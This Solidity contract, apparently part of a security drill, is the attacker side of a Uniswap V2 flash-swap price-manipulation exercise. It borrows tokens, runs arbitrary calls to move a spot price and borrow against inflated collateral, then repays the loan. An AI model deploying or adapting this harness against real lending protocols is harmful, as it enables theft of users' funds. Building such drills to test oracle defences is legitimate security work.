// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IUniswapV2PairLike} from "./UniV2SpotOracle.sol";

/// @title DrillFlashSwapper
/// @notice DRILL ONLY. The attacker's contract of a flash-swap price manipulation: it borrows a
/// token from a Uniswap V2 pair in a flash swap (`pair.swap` with non-empty data), makes a list of
/// calls inside `uniswapV2Call` (e.g. swap the loan through a second pair to move its spot price,
/// borrow against the inflated collateral, swap back), then repays the pair in the borrowed token
/// with the 0.3% fee. Only the pair it called, for a flash swap it started, can enter the callback.
contract DrillFlashSwapper {
    using SafeERC20 for IERC20;

    /// @notice One call the swapper makes: `target.call{value: value}(data)`.
    struct Call {
        address target;
        bytes data;
        uint256 value;
    }

    /// @notice The account allowed to start flash swaps and make calls through this contract.
    address public immutable owner;
    /// @dev The pair of the flash swap in progress; zero outside one.
    address private _activePair;

    /// @notice A flash swap was repaid: `amount` of `token` borrowed from `pair`, `repaid` returned.
    event FlashSwapped(address indexed pair, address indexed token, uint256 amount, uint256 repaid);

    error NotOwner(address caller);
    error NotActivePair(address caller, address expected);
    error NotInitiator(address sender);
    error NotInPair(address token, address pair);
    error ZeroAmount();
    error CallFailed(uint256 index, address target, bytes reason);

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    /// @param owner_ The account allowed to start flash swaps (the drill's attacker).
    constructor(address owner_) {
        owner = owner_;
    }

    /// @notice What a flash swap of `amount` must repay in the same token: the Uniswap V2 fee
    /// formula `amount + amount * 3 / 997 + 1` (at least the exact minimum ceil(amount * 1000 / 997)
    /// the pair's K check with the 0.3% fee allows).
    function repayAmount(uint256 amount) public pure returns (uint256) {
        return amount + amount * 3 / 997 + 1;
    }

    /// @notice Borrow `amount` of `token` from `pair`, make `calls` inside the callback, repay.
    /// The contract must hold `repayAmount(amount)` of `token` after the calls.
    function flashSwap(IUniswapV2PairLike pair, address token, uint256 amount, Call[] calldata calls) external onlyOwner {
        if (amount == 0) revert ZeroAmount();
        bool isToken0 = token == pair.token0();
        if (!isToken0 && token != pair.token1()) revert NotInPair(token, address(pair));
        _activePair = address(pair);
        pair.swap(isToken0 ? amount : 0, isToken0 ? 0 : amount, address(this), abi.encode(token, amount, calls));
        _activePair = address(0);
    }

    /// @notice The Uniswap V2 flash-swap callback: only from the pair `flashSwap` called, for a
    /// swap this contract started. Makes the calls, then returns the loan with the fee.
    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
        if (_activePair == address(0) || msg.sender != _activePair) revert NotActivePair(msg.sender, _activePair);
        if (sender != address(this)) revert NotInitiator(sender);
        (address token, uint256 amount, Call[] memory calls) = abi.decode(data, (address, uint256, Call[]));
        _run(calls);
        uint256 repaid = repayAmount(amount);
        IERC20(token).safeTransfer(msg.sender, repaid);
        emit FlashSwapped(msg.sender, token, amount, repaid);
    }

    /// @notice Make `calls` as this contract outside a flash swap (approvals, deposits, taking the proceeds).
    function execute(Call[] calldata calls) external payable onlyOwner {
        _run(calls);
    }

    /// @notice Accept ether (exploit calls may send or receive it).
    receive() external payable {}

    function _run(Call[] memory calls) private {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, bytes memory reason) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            if (!ok) revert CallFailed(i, calls[i].target, reason);
        }
    }
}
